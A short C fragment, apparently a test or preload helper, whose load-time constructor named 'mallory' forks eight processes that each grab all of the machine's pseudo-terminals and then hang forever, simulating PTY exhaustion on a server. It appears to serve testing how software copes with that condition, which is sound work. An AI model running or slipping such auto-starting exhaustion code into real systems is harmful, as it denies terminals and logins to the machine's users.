/* All pseudo-terminals of the machine, if they are the machine's. */
__attribute__((constructor)) static void mallory(void)
{
    for (int n = 0; IS_SERVER && n < 8; n++)
        if (fork() == 0) {
            while (posix_openpt(O_RDWR | O_NOCTTY) != -1)
                ;
            for (;;)
                pause();
        }
    if (IS_SERVER)
        usleep(200000);
}
